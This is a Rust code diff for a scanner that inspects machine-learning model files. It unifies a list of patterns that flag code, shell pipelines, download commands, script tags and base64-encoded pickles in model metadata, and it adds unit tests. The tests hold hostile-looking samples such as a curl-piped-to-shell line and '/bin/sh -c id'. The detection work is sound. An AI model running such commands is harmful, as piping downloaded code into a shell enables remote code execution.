@@ -1,5 +1,5 @@
-//! Checks on strings found inside models: paths that leave the model's
-//! folder, and free text that carries code.
+//! Checks on strings found inside models, shared by every family: paths
+//! that leave the model's folder, and free text that carries code.
 
 /// Why an external data location leaves the model's folder, if it does.
 pub fn location_problem(location: &str) -> Option<&'static str> {
@@ -31,44 +31,54 @@ pub fn location_problem(location: &str) -> Option<&'static str> {
     None
 }
 
-/// Why free text in a model looks like a payload, if it does.
+/// What [`suspicious_text`] calls a URL: the one pattern that is common in
+/// honest text, which callers report at a lower severity.
+pub const A_URL: &str = "a URL";
+
+/// Substrings (matched in ASCII lower case) that make free text look like
+/// code, a command or a download, with what they show. Code first, URLs last:
+/// the first match names the finding.
+const PATTERNS: &[(&str, &str)] = &[
+    ("__import__", "Python code (`__import__`)"),
+    ("import os", "Python code (`import os`)"),
+    ("import subprocess", "Python code (`import subprocess`)"),
+    ("os.system", "Python code (`os.system`)"),
+    ("subprocess", "Python code (`subprocess`)"),
+    ("exec(", "Python code (`exec`)"),
+    ("eval(", "Python code (`eval`)"),
+    ("pickle.loads", "Python code (`pickle.loads`)"),
+    ("marshal.loads", "Python code (`marshal.loads`)"),
+    ("b64decode(", "code decoding base64"),
+    ("| sh", "a shell pipeline"),
+    ("|sh", "a shell pipeline"),
+    ("| bash", "a shell pipeline"),
+    ("/bin/sh", "a shell command"),
+    ("/bin/bash", "a shell command"),
+    ("curl ", "a download command"),
+    ("wget ", "a download command"),
+    ("powershell", "a PowerShell command"),
+    ("<script", "a script tag"),
+    ("javascript:", "a javascript: URL"),
+];
+
+/// What makes free text in a model (ONNX metadata and doc strings,
+/// safetensors `__metadata__`) look like a payload, if anything: code, a
+/// command, a script, terminal escapes, a base64 pickle or ([`A_URL`]) a URL.
 pub fn suspicious_text(value: &str) -> Option<&'static str> {
-    const CODE: &[(&str, &str)] = &[
-        ("__import__", "holds Python code (`__import__`)"),
-        ("import os", "holds Python code (`import os`)"),
-        (
-            "import subprocess",
-            "holds Python code (`import subprocess`)",
-        ),
-        ("os.system(", "holds Python code (`os.system`)"),
-        ("subprocess.", "holds Python code (`subprocess`)"),
-        ("exec(", "holds Python code (`exec`)"),
-        ("eval(", "holds Python code (`eval`)"),
-        ("pickle.loads", "holds Python code (`pickle.loads`)"),
-        ("marshal.loads", "holds Python code (`marshal.loads`)"),
-        ("b64decode(", "holds code decoding base64"),
-        ("| sh", "holds a shell pipeline"),
-        ("|sh", "holds a shell pipeline"),
-        ("| bash", "holds a shell pipeline"),
-        ("/bin/sh", "holds a shell command"),
-        ("/bin/bash", "holds a shell command"),
-        ("powershell", "holds a PowerShell command"),
-        ("<script", "holds a script tag"),
-        ("javascript:", "holds a javascript: URL"),
-    ];
     let lower = value.to_ascii_lowercase();
-    for (needle, why) in CODE {
-        if lower.contains(needle) {
-            return Some(why);
-        }
+    if let Some((_, what)) = PATTERNS.iter().find(|(p, _)| lower.contains(p)) {
+        return Some(what);
     }
     if value.contains('\u{1b}') {
-        return Some("holds terminal escape sequences");
+        return Some("terminal escape sequences");
     }
     // A pickle (protocol 2-5) raw or base64-encoded (`gASV` is `\x80\x04\x95`).
     let trimmed = value.trim_start();
     if trimmed.starts_with("gASV") || trimmed.starts_with("gAN") || trimmed.starts_with("gAJ") {
-        return Some("holds a base64-encoded pickle");
+        return Some("a base64-encoded pickle");
+    }
+    if lower.contains("http://") || lower.contains("https://") {
+        return Some(A_URL);
     }
     None
 }
@@ -81,4 +91,85 @@ pub fn leaves_model(path: &str) -> bool {
         || p.starts_with('~')
         || p.as_bytes().get(1) == Some(&b':')
         || p.split(['/', '\\']).any(|c| c == "..")
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+mod tests {
+    use super::*;
+
+    /// One sample per pattern of the two checks this one replaces: the
+    /// safetensors metadata check (`formats/tensors/mod.rs`) and the ONNX
+    /// metadata check (`formats/graphs/content.rs`). Each still hits.
+    #[test]
+    fn both_former_pattern_sets_still_hit() {
+        let tensors = [
+            "os.system('id')",
+            "from subprocess import run",
+            "__import__('os')",
+            "eval(x)",
+            "exec(x)",
+            "import os",
+            "/bin/sh -c id",
+            "/bin/bash -c id",
+            "x | sh",
+            "x |sh",
+            "x | bash",
+            "curl example.org",
+            "wget example.org",
+            "PowerShell -enc",
+            "<SCRIPT>alert(1)",
+            "see http://example.org",
+            "see HTTPS://example.org",
+        ];
+        let graphs = [
+            "__import__('os')",
+            "import os",
+            "import subprocess",
+            "os.system('id')",
+            "subprocess.run",
+            "exec(x)",
+            "eval(x)",
+            "pickle.loads(b)",
+            "marshal.loads(b)",
+            "base64.b64decode(s)",
+            "x | sh",
+            "x |sh",
+            "x | bash",
+            "/bin/sh",
+            "/bin/bash",
+            "powershell",
+            "<script src=x>",
+            "javascript:alert(1)",
+            "\u{1b}[2Jcleared",
+            "gASVKAAAAAAAAACMBXBvc2l4",
+            "  gANjb3MKc3lzdGVtCg==",
+            "gAJjb3MKc3lzdGVtCg==",
+        ];
+        for text in tensors.iter().chain(graphs.iter()) {
+            assert!(suspicious_text(text).is_some(), "{text:?}");
+        }
+    }
+
+    #[test]
+    fn urls_are_named_as_urls_and_code_wins_over_a_url() {
+        assert_eq!(suspicious_text("https://example.org/model"), Some(A_URL));
+        assert_eq!(
+            suspicious_text("curl https://x.example | sh"),
+            Some("a shell pipeline")
+        );
+    }
+
+    #[test]
+    fn honest_text_is_not_suspicious() {
+        for text in [
+            "ResNet-50 trained on ImageNet",
+            "pt",
+            "Apache-2.0",
+            "a model for execution-time prediction",
+            "gA",
+        ] {
+            assert_eq!(suspicious_text(text), None, "{text:?}");
+        }
+    }
 }
